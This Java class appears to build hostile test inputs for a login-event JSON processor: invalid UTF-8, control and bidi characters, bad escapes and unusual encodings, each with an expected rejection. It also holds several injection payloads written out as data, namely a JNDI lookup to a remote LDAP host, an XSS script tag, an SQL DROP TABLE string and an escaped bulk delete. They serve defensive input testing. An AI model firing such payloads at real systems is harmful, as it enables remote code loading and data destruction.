package dev.loginstream.processor;

import java.nio.charset.Charset;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import dev.loginstream.dto.RejectionReason;

/**
 * Characters and bytes that text should not have, or that few think of.
 */
final class HostileText {

	private static final String LOGIN = "{\"user_id\":\"user-1\",\"timestamp\":1720576825}";

	private static final Map<String, String> INVALID_UTF8 = Map.ofEntries(Map.entry("overlong slash", "c0af"),
			Map.entry("overlong quote", "c0a2"), Map.entry("overlong NUL of Java", "c080"),
			Map.entry("overlong of three bytes", "e08080"), Map.entry("overlong of four bytes", "f08282ac"),
			Map.entry("CESU-8 high surrogate", "eda080"), Map.entry("CESU-8 low surrogate", "edb080"),
			Map.entry("CESU-8 pair", "eda0bdedb880"), Map.entry("beyond U+10FFFF", "f4908080"),
			Map.entry("of five bytes", "f888808080"), Map.entry("of six bytes", "fc8480808080"),
			Map.entry("stray continuation", "80"), Map.entry("last continuation", "bf"), Map.entry("start alone", "c3"),
			Map.entry("three bytes of four", "f09f98"), Map.entry("start in start", "e2e282ac"), Map.entry("FE", "fe"),
			Map.entry("FF", "ff"), Map.entry("Latin-1", "e9"), Map.entry("Windows-1252 quotes", "9394"));

	private static final Map<String, String> ODD_TEXTS = Map.ofEntries(Map.entry("right-to-left override", "\u202eexe"),
			Map.entry("bidi isolates", "\u2066\u2067\u2069"), Map.entry("zero width joiner", "a\u200db"),
			Map.entry("line separator", "\u2028"), Map.entry("paragraph separator", "\u2029"),
			Map.entry("next line", "a\u0085b"), Map.entry("delete", "\u007f"),
			Map.entry("noncharacter", "\uffff\ufdd0"), Map.entry("replacement character", "\ufffd"),
			Map.entry("mark inside", "a\ufeffb"), Map.entry("many combining marks", "a" + "\u0301".repeat(2000)),
			Map.entry("dotless i", "\u0131p"), Map.entry("last character", "\udbff\udfff"),
			Map.entry("tag characters", "\udb40\udc41"), Map.entry("terminal escape", "\\u001b[2J"),
			Map.entry("line end escaped", "a\\r\\nb"),
			Map.entry("bulk request escaped", "\\n{\\\"delete\\\":{\\\"_id\\\":\\\"1\\\"}}\\n"),
			Map.entry("half a pair, high", "\\ud83d"), Map.entry("half a pair, low", "\\ude00"),
			Map.entry("pair in the wrong order", "\\ude00\\ud83d"), Map.entry("high twice", "\\ud83d\\ud83d\\ude00"),
			Map.entry("pair of escapes", "\\ud83d\\ude00"), Map.entry("pair in upper case", "\\uD83D\\uDE00"),
			Map.entry("high escaped, then text", "\\ud83dx"), Map.entry("solidus escaped", "\\/"),
			Map.entry("mustache", "{{1+1}}"), Map.entry("lookup", "${jndi:ldap://192.0.2.1/x}"),
			Map.entry("markup", "<script>alert(1)</script>"), Map.entry("SQL", "'; DROP TABLE logins; --"));

	private HostileText() {
	}

	static Stream<HostileInput> all() {
		return Stream.of(controls(), oddTexts(), badEscapes(), invalidUtf8(), encodings()).flatMap((inputs) -> inputs);
	}

	private static Stream<HostileInput> controls() {
		return IntStream.range(0, ' ').boxed().flatMap((code) -> {
			String name = "control %02x ".formatted(code);
			String hex = "%02x".formatted(code);
			boolean white = "\t\n\r".indexOf(code) >= 0;
			return Stream.of(
					HostileInput.bytes(name + "raw in text", "\"locale\":\"a*b\"", hex, RejectionReason.NOT_JSON),
					HostileInput.bytes(name + "raw in a name", "\"a*b\":1", hex, RejectionReason.NOT_JSON),
					HostileInput.bytes(name + "between tokens", "\"x\":*1", hex,
							white ? null : RejectionReason.NOT_JSON),
					HostileInput.login(name + "escaped", "\"a\\u00%sb\":\"\\u00%s\"".formatted(hex, hex), null));
		});
	}

	private static Stream<HostileInput> oddTexts() {
		return ODD_TEXTS.entrySet().stream().flatMap((text) -> {
			String quoted = '"' + text.getValue() + '"';
			boolean half = text.getKey().matches("half.*|.*wrong.*|high.*");
			return Stream.of(HostileInput.of("user_id of " + text.getKey(),
					"{\"user_id\":%s,\"timestamp\":1720576825}".formatted(quoted), userIdReason(text.getValue())),
					HostileInput.login("text field of " + text.getKey(), "\"device_id\":" + quoted, null),
					HostileInput.login("ip of " + text.getKey(), "\"ip\":" + quoted, null),
					HostileInput.login("unknown field named " + text.getKey(), quoted + ":1",
							half ? RejectionReason.NOT_JSON : null));
		});
	}

	private static RejectionReason userIdReason(String text) {
		return text.isBlank() ? RejectionReason.MISSING_USER_ID : null;
	}

	private static Stream<HostileInput> badEscapes() {
		return Stream
			.of("\\", "\\x41", "\\'", "\\0", "\\a", "\\v", "\\u", "\\u1", "\\u12", "\\u123", "\\u12G4", "\\U0041",
					"\\u{41}", "\\u+041", "\\u 041", "\\\n", "\\u\uff10\uff10\uff14\uff11")
			.map((escape) -> HostileInput.login("bad escape " + escape.replace("\n", "line end"),
					"\"x\":\"" + escape + '"', RejectionReason.NOT_JSON));
	}

	private static Stream<HostileInput> invalidUtf8() {
		return INVALID_UTF8.entrySet()
			.stream()
			.flatMap((bytes) -> Stream.of("\"x\":\"*\"", "\"locale\":\"*\"", "\"*\":1", "\"x\":1*")
				.map((place) -> HostileInput.bytes("invalid UTF-8, %s in %s".formatted(bytes.getKey(), place), place,
						bytes.getValue(), RejectionReason.NOT_JSON)));
	}

	private static Stream<HostileInput> encodings() {
		Stream<HostileInput> marked = Stream.of("UTF-8", "UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE")
			.map((charset) -> encoded("mark of " + charset, '\ufeff' + LOGIN, charset));
		Stream<HostileInput> unmarked = Stream.of("UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE", "IBM037", "IBM500")
			.map((charset) -> encoded(charset + " without a mark", LOGIN, charset));
		Stream<HostileInput> zeros = Stream.of(
				HostileInput.of("NUL before the login", "\0" + LOGIN, RejectionReason.NOT_JSON),
				HostileInput.of("NUL behind the login", LOGIN + "\0", RejectionReason.NOT_JSON),
				HostileInput.of("marks twice", "\ufeff\ufeff" + LOGIN, RejectionReason.NOT_JSON),
				HostileInput.of("mark behind the login", LOGIN + "\ufeff", RejectionReason.NOT_JSON),
				new HostileInput("zeros alone", new byte[4096], RejectionReason.NOT_JSON));
		return Stream.of(marked, unmarked, zeros).flatMap((inputs) -> inputs);
	}

	private static HostileInput encoded(String name, String text, String charset) {
		byte[] bytes = text.getBytes(Charset.forName(charset));
		return new HostileInput(name, bytes, RejectionReason.NOT_JSON);
	}

}
